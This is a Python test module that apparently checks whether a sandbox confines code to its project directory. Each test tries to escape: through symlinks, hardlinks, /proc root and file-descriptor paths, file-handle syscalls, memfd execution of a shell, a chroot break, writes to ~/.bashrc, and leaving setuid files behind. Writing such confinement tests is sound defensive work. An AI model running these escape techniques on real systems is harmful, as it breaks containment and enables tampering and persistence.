# ruff: noqa
# mypy: ignore-errors
"""Attacks on files outside: their content, their place, and what stands about them."""

from __future__ import annotations

import ctypes
import os
import platform
import socket
import stat
import struct

from .attack import STAGE, attack, call, done, first_ok, number, project, put, quiet, target


@attack
def write_direct():
    dotted = project("..", "outside", "write_direct.txt")
    first_ok(lambda: put(target()), lambda: put(dotted), lambda: put(f"{STAGE['outside']}/write_direct-new"))


@attack
def write_symlink_new():
    with quiet():
        os.symlink(STAGE["outside"], project("out"))
        put(project("out", "write_symlink_new.txt"))
    with quiet():
        os.symlink(target(), project("out.txt"))
        put(project("out.txt"))


@attack
def write_symlink_premade():
    first_ok(lambda: put(project("premade", "write_symlink_premade.txt")), lambda: put(project("premade.txt")))


@attack
def write_hardlink():
    os.link(target(), project("hard"))
    put(project("hard"))


@attack
def rename_in():
    os.rename(target(), project("moved-in"))


@attack
def rename_out():
    put(project("going"))
    first_ok(
        lambda: os.rename(project("going"), f"{STAGE['outside']}/rename_out-new"),
        lambda: os.rename(STAGE["projects"][1], STAGE["projects"][1] + "-rename_out"),
    )


@attack
def delete_outside():
    first_ok(lambda: os.unlink(target()), lambda: os.rmdir(f"{STAGE['outside']}/delete_outside.d"))


@attack
def truncate_append():
    def append():
        fd = os.open(target(), os.O_APPEND | os.O_WRONLY)
        os.write(fd, b"truncate_append")

    first_ok(lambda: os.truncate(target(), 1), append)


@attack
def mkdir_mkfifo():
    def bound():
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(f"{STAGE['outside']}/mkdir_mkfifo-s")

    base = f"{STAGE['outside']}/mkdir_mkfifo"
    first_ok(lambda: os.mkdir(base + "-d"), lambda: os.mkfifo(base + "-f"), bound)


@attack
def proc_self_root():
    for root in ("/proc/self/root", "/proc/thread-self/root", "/proc/self/task/self/root"):
        with quiet():
            put(root + target())
    os.chdir(STAGE["projects"][0])
    put("/proc/self/cwd/../outside/proc_self_root.txt")


@attack
def proc_pid_root():
    for pid in (1, os.getppid(), STAGE["decoy"], STAGE["runner"]):
        for link in ("root", "cwd"):
            with quiet():
                put(f"/proc/{pid}/{link}{target()}")
        with quiet():
            for fd in os.listdir(f"/proc/{pid}/fd"):
                with quiet():
                    put(f"/proc/{pid}/fd/{fd}/proc_pid_root.txt")


@attack
def inherited_fd():
    for fd in range(3, 64):
        for name in ("inherited_fd.txt", "../outside/inherited_fd.txt"):
            with quiet():
                os.write(os.open(name, os.O_WRONLY | os.O_APPEND, dir_fd=fd), b"inherited_fd")


@attack
def reopen_opath():
    fd = os.open(target(), os.O_PATH)
    put(f"/proc/self/fd/{fd}")


@attack
def file_handle():
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    call(number(303, 264), -100, target().encode(), handle, ctypes.byref(mount_id), 0)
    fd = call(number(304, 265), os.open(STAGE["projects"][0], os.O_RDONLY), handle, os.O_WRONLY | os.O_APPEND)
    os.write(fd, b"file_handle")


@attack
def tmp_shared():
    for folder in ("/tmp", "/var/tmp", "/dev/shm"):
        name = f"{folder}/skillkit-suite-{STAGE['id']}"
        first_ok(lambda: put(name), lambda: os.unlink(name), lambda: os.mkdir(name + "-new"))


@attack
def home_rc():
    put(os.path.join(STAGE["home"], ".bashrc"), "home_rc")


@attack
def memfd_program():
    if platform.libc_ver()[0] != "glibc":
        return
    fd = os.memfd_create("program")
    with open(os.path.realpath("/bin/sh"), "rb") as shell:
        os.write(fd, shell.read())
    if os.fork() == 0:
        os.execv(f"/proc/self/fd/{fd}", ["sh", "-c", f"echo memfd_program >> {target()}"])
    os.wait()


@attack
def chroot_escape():
    os.mkdir(project("jail"))
    here = os.open(".", os.O_RDONLY)
    os.chroot(project("jail"))
    os.fchdir(here)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return "chroot"


@attack(lack="metadata")
def chmod_outside():
    first_ok(
        lambda: os.chmod(target(), 0o777),
        lambda: os.chmod(os.path.basename(target()), 0o777, dir_fd=os.open(STAGE["outside"], os.O_RDONLY)),
        lambda: os.fchmod(os.open(target(), os.O_RDONLY), 0o777),
    )


@attack(lack="metadata")
def chown_outside():
    return done(lambda: os.chown(target(), 12345, 12345), lambda: os.chown(target(), -1, os.getgid()))


@attack(lack="metadata")
def utime_outside():
    first_ok(lambda: os.utime(target(), (1, 1)), lambda: os.utime(os.open(target(), os.O_RDONLY), (1, 1)))


@attack(lack="metadata")
def xattr_outside():
    os.setxattr(target(), "user.suite", b"1")
    return "xattr"


@attack(only="root")
def setuid_left_behind():
    path = project("rooted")

    def made():
        os.close(os.open(project("rooted2"), os.O_CREAT | os.O_WRONLY, 0o4755))
        return oct(os.stat(project("rooted2")).st_mode) if os.stat(project("rooted2")).st_mode & stat.S_ISUID else None

    def openat2():
        how = struct.pack("=QQQ", os.O_CREAT | os.O_WRONLY, 0o4755, 0)
        call(437, -100, project("rooted3").encode(), how, len(how))

    put(path)
    first_ok(
        lambda: os.chmod(path, 0o4755),
        lambda: os.fchmod(os.open(path, os.O_RDONLY), 0o6755),
        lambda: os.chmod("rooted", 0o4755, dir_fd=os.open(STAGE["projects"][0], os.O_RDONLY)),
        lambda: call(452, -100, path.encode(), 0o4755, 0),
        lambda: os.mknod(project("rooted4"), 0o104755),
        made,
        openat2,
    )
